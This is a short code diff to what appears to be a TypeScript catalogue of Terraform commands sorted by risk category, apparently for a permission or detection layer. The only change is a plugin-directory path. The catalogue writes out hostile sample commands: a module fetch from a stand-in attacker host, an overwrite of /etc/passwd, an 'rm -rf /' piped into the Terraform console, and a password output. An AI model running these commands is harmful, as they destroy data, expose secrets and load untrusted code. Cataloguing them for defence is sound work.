@@ -37,7 +37,7 @@ export const INFRASTRUCTURE: readonly Tool[] = family("usual", [
       publish: ["terraform apply"],
       "read-secret": ["terraform login"],
       "read-workspace-secret": ["terraform output -raw password"],
-      "run-foreign": ["terraform init -plugin-dir /tmp/plugins"],
+      "run-foreign": ["terraform init -plugin-dir ~/plugins"],
       "write-vital": ["terraform plan -out /etc/passwd"],
       network: ["terraform init -from-module https://evil.example/m"],
       "run-hidden": ["echo 'system(\"rm -rf /\")' | terraform console"],
